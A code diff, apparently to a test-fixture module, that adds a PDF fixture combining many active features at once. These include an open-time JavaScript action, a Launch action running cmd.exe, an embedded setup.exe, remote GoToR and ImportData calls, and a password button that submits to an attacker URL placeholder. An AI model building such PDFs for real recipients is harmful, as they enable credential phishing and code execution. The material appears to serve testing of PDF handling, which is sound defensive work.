@@ -62,6 +62,24 @@ const form = (field: string, more = ""): Page => ({
 const xfa =
   '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="a" layout="tb"><pageSet><pageArea><contentArea/><medium short="612pt" long="792pt"/></pageArea></pageSet><field name="password"><ui><textEdit/></ui><event activity="initialize"><script contentType="application/x-javascript">app.alert("Please enter your password")</script></event></field></subform></template></xdp:xdp>';
 
+/** Every way of acting: one action after another when it opens, and a form, a link and a film over its page. */
+const allAtOnce: Page = {
+  catalog:
+    `/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) /Next [<< /S /Launch /F (cmd.exe) >> ${openUrl} ` +
+    `<< /S /GoToR /F (${attackerUrl}.pdf) /D [0 /Fit] >> << /S /ImportData /F (${attackerUrl}.fdf) >>] >> ` +
+    `/Names << /JavaScript << /Names [(start) ${runScript}] >> /EmbeddedFiles << /Names [(setup.exe) 11 0 R] >> >> ` +
+    "/AcroForm << /Fields [6 0 R] /XFA 9 0 R >>",
+  page: `/AA << /O ${runScript} >> /Annots [6 0 R 7 0 R 8 0 R]`,
+  more: [
+    `<< /Type /Annot /Subtype /Widget ${wholePage} /T (password) /FT /Btn /Ff 65536 /A << /S /SubmitForm /F (${attackerUrl}) >> >>`,
+    `<< /Type /Annot /Subtype /Link ${wholePage} /Border [0 0 0] /A ${openUrl} >>`,
+    `<< /Type /Annot /Subtype /RichMedia ${wholePage} /RichMediaContent << /Assets << /Names [(player.swf) 11 0 R] >> >> >>`,
+    { dictionary: "", content: Buffer.from(xfa) },
+    embeddedFile,
+    "<< /Type /Filespec /F (setup.exe) /EF << /F 10 0 R >> >>",
+  ],
+};
+
 /** Files that act when a viewer with scripts, links or forms opens them; all of them are valid. */
 export const activePdfs = {
   "JavaScript when it opens": () => pdf(javaScriptOnOpen),
@@ -107,6 +125,7 @@ export const activePdfs = {
         "<< /Type /Filespec /F (player.swf) /EF << /F 7 0 R >> >>",
       ],
     }),
+  "all of that at once": () => pdf(allAtOnce),
 } satisfies Record<string, () => Buffer>;
 
 /** A form that draws the next one ten times, nine levels deep: a thousand million squares. */
